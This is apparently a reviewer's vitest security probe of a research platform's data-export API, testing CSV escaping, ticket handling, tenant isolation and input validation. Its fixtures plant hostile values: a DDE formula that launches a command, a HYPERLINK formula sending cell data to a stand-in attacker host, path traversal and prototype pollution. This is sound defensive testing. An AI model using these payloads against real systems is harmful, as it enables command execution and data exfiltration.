// Scratch probe (reviewer): functional and security probes of exports, through inject.
import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, exportTickets, participants, researchers } from '../../src/db/schema/index.ts';
import {
  assessmentsFixture,
  type AssessmentsFixture,
} from '../modules/assessments/assessments-fixture.ts';
import type { Persona } from '../modules/organisations-fixture.ts';

let f: AssessmentsFixture;
let assessmentA: number;
let evilSchool: number;
const out: string[] = [];
const log = (...a: unknown[]) =>
  out.push(a.map((x) => (typeof x === 'string' ? x : JSON.stringify(x))).join(' '));

async function answer(token: string, position: number, itemIndex: number, response: string) {
  const r = await f.t.app.inject({
    method: 'POST',
    url: `/api/play/${token}/answers`,
    payload: {
      position,
      itemIndex,
      response,
      reactionTimeMs: 500,
      inputType: 'touch',
      clientShownAt: '2026-05-01T10:00:00.000Z',
      clientAnsweredAt: '2026-05-01T10:00:01.500Z',
    },
  });
  expect(r.statusCode, r.body).toBe(201);
}

beforeAll(async () => {
  f = await assessmentsFixture();
  const school = await f.post(
    '/api/schools',
    { schoolName: '@SUM(1+1)*cmd|" /C calc"!A0', managingInstituteId: f.instituteA },
    'researcherA',
  );
  log('create school', school.statusCode, school.body.slice(0, 200));
  evilSchool = school.json().school?.id ?? school.json().id;
  const p = await f.post(
    '/api/participants',
    {
      subjectId: '=HYPERLINK("http://evil.example/?d="&B2,"click")',
      schoolId: evilSchool,
      group: '+cmd|x',
    },
    'researcherA',
  );
  log('create participant', p.statusCode, p.body.slice(0, 300));
  const pid = p.json().participant.id;
  const p2 = await f.post(
    '/api/participants',
    { subjectId: 'LS\u2028ID', group: '-2+3' },
    'researcherA',
  );
  log('create participant 2', p2.statusCode, p2.body.slice(0, 300));
  assessmentA = await f.createAssessment();
  const s = await f.startSession(assessmentA, pid);
  await answer(s.token, 0, 0, 'fits');
  const s2 = await f.startSession(assessmentA, p2.json().participant.id);
  await answer(s2.token, 0, 0, 'fits');
  const sB = await f.startSession(
    await f.createAssessment({ instituteId: f.instituteB }),
    f.participantB,
  );
  await answer(sB.token, 0, 0, 'fits');
}, 180_000);
afterAll(async () => {
  console.log('\n===== PROBE A OUTPUT =====\n' + out.join('\n') + '\n=====');
  await f.t.close();
});

const ask = (body: Record<string, unknown>, persona: Persona = 'researcherA') =>
  f.post('/api/exports', body, persona);

describe('probe', () => {
  it('formula injection in CSV', async () => {
    const asked = await ask({ file: 'trials.csv' });
    const r = await f.t.app.inject({ url: asked.json().url });
    log('trials.csv status', r.statusCode, 'headers', r.headers);
    log('trials.csv body:\n' + r.body);
    const rows = parse(r.body, { columns: true }) as Record<string, string>[];
    for (const row of rows) log('cells', row.subject_id, '|', row.school, '|', row.group);
    const j = await f.t.app.inject({ url: (await ask({ file: 'sessions.jsonl' })).json().url });
    log('sessions.jsonl body:\n' + j.body);
    log('jsonl contains raw U+2028:', j.body.includes('\u2028'));
  });

  it('HEAD on the ticket', async () => {
    await f.t.db.delete(auditLog);
    const asked = await ask({ file: 'trials.csv' });
    const head = await f.t.app.inject({ method: 'HEAD', url: asked.json().url });
    log('HEAD', head.statusCode, head.headers, 'body len', head.body.length);
    const get = await f.t.app.inject({ url: asked.json().url });
    log('GET after HEAD', get.statusCode);
    await new Promise((r) => setTimeout(r, 500));
    log(
      'audit after HEAD',
      (await f.t.db.select().from(auditLog)).map((a) => a.details),
    );
  });

  it('concurrent GETs of one ticket', async () => {
    for (const file of ['trials.csv', 'codebook.json', 'export.zip']) {
      const asked = await ask({ file });
      const results = await Promise.all(
        Array.from({ length: 8 }, () => f.t.app.inject({ url: asked.json().url })),
      );
      log(
        'concurrent',
        file,
        results.map((r) => r.statusCode),
      );
    }
  });

  it('ticket after the role changed / membership removed', async () => {
    const asked = await ask({ file: 'trials.csv' });
    const [u] = await f.t.db
      .execute(sql`select id from users where email = 'rita.a@example.org'`)
      .then((r: any) => r.rows ?? r);
    await f.t.db.delete(researchers).where(eq(researchers.userId, u.id));
    const r = await f.t.app.inject({ url: asked.json().url });
    log('after membership removed', r.statusCode, 'rows', r.body.trim().split('\r\n').length - 1);
    const again = await ask({ file: 'trials.csv' });
    log('new POST after removal', again.statusCode, again.body.slice(0, 100));
    const r2 = await f.t.app.inject({ url: again.json().url });
    log(
      'new download after removal',
      r2.statusCode,
      'rows',
      r2.body.trim().split('\r\n').length - 1,
    );
    await f.t.db
      .insert(researchers)
      .values({ userId: u.id, researchInstituteId: f.instituteA, acceptedAt: new Date() });
  });

  it('bad inputs', async () => {
    const cases: Record<string, unknown>[] = [
      { assessmentId: '1e2' },
      { assessmentId: 1e2 },
      { assessmentId: '1' },
      { assessmentId: 1.5 },
      { assessmentId: -1 },
      { assessmentId: 0 },
      { assessmentId: 2 ** 31 },
      { assessmentId: null },
      { schoolId: evilSchool + 0.0 },
      { group: 'x'.repeat(33) },
      { group: 'x'.repeat(100000) },
      { group: 'a\u0000b' },
      { group: '\ud800' },
      { group: '   ' },
      { group: ' +cmd|x ' },
      { group: 'a\nb' },
      { from: '2026-02-30' },
      { from: '2026-13-01' },
      { from: '2025-02-29' },
      { from: '2024-02-29' },
      { from: '0000-01-01' },
      { to: '0000-01-01' },
      { from: '9999-12-31' },
      { to: '9999-12-31' },
      { from: '2026-05-02', to: '2026-05-01' },
      { from: '2026-5-1' },
      { from: '2026-05-01T00:00:00Z' },
      { from: '' },
      { from: 20260501 },
      { file: 'TRIALS.CSV' },
      { file: '../etc/passwd' },
      { __proto__: { x: 1 } },
      { constructor: 1 },
    ];
    for (const c of cases) {
      const body = { file: 'trials.csv', ...c };
      const r = await ask(body);
      let dl = '';
      if (r.statusCode === 201) {
        const d = await f.t.app.inject({ url: r.json().url });
        dl = `download ${d.statusCode} len ${d.body.length} ${d.body.slice(0, 80).replace(/\r\n/g, '⏎')}`;
      }
      log(
        'input',
        JSON.stringify(c).slice(0, 80),
        '->',
        r.statusCode,
        r.statusCode !== 201 ? r.body.slice(0, 250) : '',
        dl,
      );
    }
  });

  it('cross-tenant filter combos', async () => {
    const combos: [Persona, Record<string, unknown>][] = [
      ['researcherB', { assessmentId: assessmentA }],
      ['researcherB', { schoolId: f.schoolA }],
      ['researcherB', { schoolId: evilSchool }],
      ['researcherB', { schoolId: f.schoolWithoutInstitute }],
      ['researcherB', { group: '+cmd|x' }],
      ['researcherA', { schoolId: f.schoolWithoutInstitute }],
      ['researcherB', {}],
      ['noRole', {}],
    ];
    for (const [p, c] of combos) {
      const r = await ask({ file: 'trials.csv', ...c }, p);
      let body = '';
      if (r.statusCode === 201) body = (await f.t.app.inject({ url: r.json().url })).body;
      log(
        'xtenant',
        p,
        JSON.stringify(c),
        r.statusCode,
        r.statusCode === 201
          ? `rows: ${body
              .trim()
              .split('\r\n')
              .slice(1)
              .map((l) => l.split(',')[1])
              .join(';')}`
          : r.body.slice(0, 120),
      );
    }
  });

  it('response headers of the download', async () => {
    for (const file of ['trials.csv', 'export.zip', 'codebook.json']) {
      const r = await f.t.app.inject({
        url: (await ask({ file })).json().url,
        headers: { 'accept-encoding': 'gzip' },
      });
      log('headers', file, r.statusCode, r.headers);
    }
    const d404 = await f.t.app.inject({ url: `/api/exports/${'A'.repeat(43)}` });
    log('404 headers', d404.statusCode, d404.headers, d404.body);
    const opt = await f.t.app.inject({ method: 'OPTIONS', url: `/api/exports/${'A'.repeat(43)}` });
    log('OPTIONS', opt.statusCode);
    const post = await f.t.app.inject({ method: 'POST', url: `/api/exports/${'A'.repeat(43)}` });
    log('POST ticket', post.statusCode);
  });

  it('URL variants that reach the download', async () => {
    const variants = (t: string) => [
      `/api/exports/${t}`,
      `/api/exports/${t}/`,
      `/api/exports/${t}?x=1`,
      `/api//exports/${t}`,
      `//api/exports/${t}`,
      `/api/exports/${t.slice(0, 1)}%${t.charCodeAt(1).toString(16)}${t.slice(2)}`,
      `/API/exports/${t}`,
      `/api/Exports/${t}`,
      `/api/exports/${t};x`,
      `/api/exports/./${t}`,
    ];
    const asked = await ask({ file: 'codebook.json' });
    const t = asked.json().url.split('/').pop();
    for (const v of variants(t)) {
      const r = await f.t.app.inject({ url: v });
      log('variant', v.replace(t, '<T>'), r.statusCode);
      if (r.statusCode === 200) break;
    }
  });
});
